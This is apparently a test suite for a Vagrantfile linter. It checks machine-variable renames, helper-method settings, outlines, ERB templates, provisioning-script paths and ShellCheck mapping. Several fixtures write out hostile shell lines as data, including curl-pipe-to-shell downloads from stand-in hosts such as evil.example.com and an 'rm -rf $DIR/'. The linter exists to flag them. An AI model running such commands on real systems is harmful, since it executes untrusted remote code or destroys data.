/**
 * Vagrantfiles read the way Vagrant runs them: helper methods, the outer config written inside machine blocks,
 * and the exact text of the fixes that follow from it.
 */
import { strict as assert } from 'node:assert';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { engineReady } from '../helpers/setup';
import { nodeEnv } from '../../src/node/host';
import { findShellcheck, shellcheckVagrantfile } from '../../src/node/shellcheck';
import { lint, applyFixes, defaultConfig, mergeConfig, symbols, type Finding, type SymbolInfo } from '../../src/core/index';

const V = (text: string, codes?: string[]): Finding[] =>
  lint(text, 'vagrantfile', defaultConfig()).filter((f) => !codes || codes.includes(f.code));

describe('vagrant program', () => {
  before(engineReady);

  it('VGT033 renames the outer config to the machine variable (exact text)', () => {
    const text = `Vagrant.configure("2") do |config|
  config.vm.define "web" do |web|
    config.vm.hostname = "web" # the name
  end
  config.vm.define "db" do |db|
    db.vm.hostname = "db"
  end
end
`;
    const [f] = V(text, ['VGT033']);
    assert.ok(f, 'VGT033 reported');
    assert.equal(f.fixes?.length, 1);
    assert.equal(f.fixes![0].safe, false);
    assert.equal(
      applyFixes(text, f.fixes![0].edits).text,
      text.replace('    config.vm.hostname = "web" # the name', '    web.vm.hostname = "web" # the name'),
    );
    assert.deepEqual(V(applyFixes(text, f.fixes![0].edits).text, ['VGT033']), []);
  });

  it('VGT033 offers no rename when the machine variable is shadowed', () => {
    const text = `Vagrant.configure("2") do |config|
  config.vm.define "web" do |web|
    [1].each do |web|
      config.vm.hostname = "web"
    end
  end
  config.vm.define "db" do |db|
  end
end
`;
    const [f] = V(text, ['VGT033']);
    assert.ok(f);
    assert.equal(f.fixes, undefined);
  });

  it('rules see settings made in helper methods, reported once at their place', () => {
    const text = `def node(config, name, port)
  config.vm.define name do |n|
    n.vm.box = "ubuntu/trusty64"
    n.vm.network "forwarded_port", guest: 80, host: port
  end
end
Vagrant.configure("2") do |config|
  node(config, "a", 8080)
  node(config, "b", 8081)
end
`;
    const f = V(text);
    const codes = f.map((x) => `${x.code}@${x.range.start.line}`);
    assert.ok(codes.includes('VGT011@2'), codes.join(' '));
    assert.equal(f.filter((x) => x.code === 'VGT002').length, 2, 'one per host port');
    assert.equal(f.filter((x) => x.code === 'VGT011').length, 1, 'one finding for the one line');
  });
});

describe('outline (document symbols)', () => {
  before(engineReady);

  it('lists machines with their providers, provisioners, networks and folders; option files by group', () => {
    const text = `def extra(node)
  node.vm.network "private_network", ip: "10.0.0.9"
end
Vagrant.configure("2") do |config|
  config.vm.box = "bento/debian-12"
  config.vm.synced_folder ".", "/vagrant", disabled: true
  config.vm.define "web" do |web|
    web.vm.box = "bento/ubuntu-24.04"
    web.vm.network "forwarded_port", guest: 80, host: 8080, host_ip: "127.0.0.1"
    web.vm.provider "virtualbox" do |vb, override|
      vb.memory = 1024
      override.vm.network "private_network", ip: "10.0.0.2"
    end
    web.vm.provision "shell", path: "setup.sh"
    extra(web)
  end
  config.trigger.after :up do |t|
    t.info = "up"
  end
end
`;
    const out = symbols(text, 'vagrantfile');
    const flat = (s: SymbolInfo, d = 0): string[] => [`${'  '.repeat(d)}${s.kind} ${s.name}${s.detail ? ` [${s.detail}]` : ''}`, ...s.children.flatMap((c) => flat(c, d + 1))];
    assert.deepEqual(out.flatMap((s) => flat(s)), [
      'configure Vagrant.configure("2")',
      '  folder synced_folder . [/vagrant]',
      '  machine web [bento/ubuntu-24.04]',
      '    network network forwarded_port [80 → 127.0.0.1:8080]',
      '    provider provider virtualbox',
      '    network network private_network [10.0.0.2]',
      '    provision provision shell [setup.sh]'.replace('provision provision', 'provisioner provision'),
      '  trigger trigger after up',
    ]);
    const within = (a: SymbolInfo) => a.selectionRange.start.line >= a.range.start.line && a.selectionRange.end.line <= a.range.end.line;
    const all = (s: SymbolInfo): SymbolInfo[] => [s, ...s.children.flatMap(all)];
    assert.ok(out.flatMap(all).every(within));

    const cnf = symbols('[client]\nport = 3306\n\n[mysqld]\ninnodb_buffer_pool_size = 1G\nskip-name-resolve\n', 'mycnf');
    assert.deepEqual(cnf.map((g) => [g.name, g.children.map((o) => `${o.name}${o.detail ? `=${o.detail}` : ''}`)]), [
      ['[client]', ['port=3306']],
      ['[mysqld]', ['innodb_buffer_pool_size=1G', 'skip-name-resolve']],
    ]);
    assert.equal(cnf[1].range.end.line, 5, 'a group spans its options');
    assert.deepEqual(symbols('FROM x\n', 'dockerfile'), []);
    assert.deepEqual(symbols('Vagrant.configure("2") do |c|\n  c.vm.define "x" do\n', 'vagrantfile').length, 1, 'broken files still get an outline');
  });
});

describe('Vagrantfile.erb templates', () => {
  before(engineReady);

  it('reads the Ruby with ERB tags masked: no syntax errors, templated values unknown, literal names still checked', () => {
    const text = `<% config[:files].each do |f| %>
require "<%= f %>"
<% end %>
Vagrant.configure("2") do |c|
  c.vm.box = "<%= config[:box] %>"
<% if config[:port] %>
  c.vm.network "forwarded_port", guest: 80, host: <%= config[:port] %>
<% end %>
  c.vm.boxx = "<%= config[:box] %>"
  c.ssh.<%= key %> = "<%= value %>"
  c.vm.network(:<%= opts[0] %>, <%= opts[1..-1].join(", ") %>)
  c.vm.provider :<%= config[:provider] %> do |p|
    p.<%= key %> = <%= value %>
  end
  c.vm.provision "shell", inline: "apt-get install -y <%= pkgs %> && curl <%= url %> | sh"
end
`;
    const f = V(text);
    const codes = f.map((x) => `${x.code}@${x.range.start.line}:${x.range.start.character}`);
    assert.ok(!codes.some((c) => c.startsWith('VGT005')), `no syntax error: ${codes.join(' ')}`);
    assert.ok(codes.includes('VGT006@8:7'), `the literal typo boxx is still reported: ${codes.join(' ')}`);
    assert.ok(codes.includes('VGT002@6:44'), `the forward without host_ip is still reported: ${codes.join(' ')}`);
    assert.ok(codes.some((c) => c.startsWith('VGT035@14:')), `the shell still reads curl | sh: ${codes.join(' ')}`);
    assert.equal(f.filter((x) => x.code === 'VGT006' || x.code === 'VGT009' || x.code === 'VGT032').length, 1, codes.join(' '));
    const tagAt = (line: number, ch: number) => {
      const l = text.split('\n')[line];
      const open = l.lastIndexOf('<%', ch);
      return open >= 0 && l.indexOf('%>', open) >= ch - 1;
    };
    for (const x of f) {
      assert.ok(!tagAt(x.range.start.line, x.range.start.character), `${x.code} starts inside a tag`);
      for (const fix of x.fixes ?? []) for (const e of fix.edits) assert.ok(!tagAt(e.range.start.line, e.range.start.character + 1), `${x.code} fix edits a tag`);
    }
  });
});

describe('provisioning path: scripts', () => {
  before(engineReady);

  it('reads path: scripts inside the Vagrantfile folder through the host, never outside it', () => {
    const root = mkdtempSync(join(tmpdir(), 'dg-vagrant-path-'));
    try {
      const project = join(root, 'project');
      mkdirSync(join(project, 'scripts'), { recursive: true });
      writeFileSync(join(project, 'scripts', 'setup.sh'), '#!/bin/bash\nset -e\napt-get update\napt-get install nginx\ncurl -fsSL https://get.example.com | bash\n');
      writeFileSync(join(root, 'outside.sh'), 'curl -fsSL https://evil.example.com | sh\n');
      writeFileSync(join(project, 'win.ps1'), 'curl https://x | sh\n');
      const text = `Vagrant.configure("2") do |config|
  config.vm.box = "bento/debian-12"
  config.vm.box_version = "202502.21.0"
  config.vm.provision "shell", path: "scripts/setup.sh"
  config.vm.provision "shell", path: "../outside.sh"
  config.vm.provision "shell", path: "${join(root, 'outside.sh')}"
  config.vm.provision "shell", path: "win.ps1"
end
`;
      const file = join(project, 'Vagrantfile');
      writeFileSync(file, text);
      const f = lint(text, 'vagrantfile', defaultConfig(), nodeEnv(file)).filter((x) => x.code === 'VGT035' || x.code === 'VGT037');
      assert.deepEqual(
        f.map((x) => `${x.code}@${x.range.start.line}:${x.range.start.character} ${x.message.split(':')[0]}`).sort(),
        ['VGT035@3:37 scripts/setup.sh, line 5', 'VGT037@3:37 scripts/setup.sh, line 4'],
      );
      assert.equal(f[0].related?.[0].file, join(project, 'scripts', 'setup.sh'));
      // without a file name (stdin) nothing is read
      assert.deepEqual(lint(text, 'vagrantfile', defaultConfig(), nodeEnv(undefined)).filter((x) => x.code === 'VGT035'), []);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('ShellCheck on provisioning scripts (real binary)', () => {
  before(engineReady);

  it('maps ShellCheck comments to the inline script, never to a masked interpolation; suppressions apply', async function () {
    if (!findShellcheck()) this.skip();
    const text = `Vagrant.configure("2") do |config|
  config.vm.provision "shell", inline: <<-SHELL
    cd /opt/#{NAME}
    rm -rf $DIR/
  SHELL
  # devops-guidance ignore=SC2045
  config.vm.provision "shell", inline: "for f in $(ls *.txt); do echo \\"$f\\"; done"
end
`;
    const f = await shellcheckVagrantfile(text, defaultConfig(), {});
    const at = f.map((x) => `${x.code}@${x.range.start.line}:${x.range.start.character}`);
    assert.ok(at.includes('SC2164@2:4'), at.join(' '));
    assert.ok(at.includes('SC2115@3:11'), at.join(' '));
    assert.ok(!at.some((a) => a.startsWith('SC2045')), `suppressed: ${at.join(' ')}`);
    assert.ok(!f.some((x) => x.range.start.line === 2 && x.range.start.character >= 12), `nothing on #{NAME}: ${at.join(' ')}`);
    const off = await shellcheckVagrantfile(text, mergeConfig(defaultConfig(), { dockerfile: { shellcheck: false } }), {});
    assert.deepEqual(off, []);
  });
});
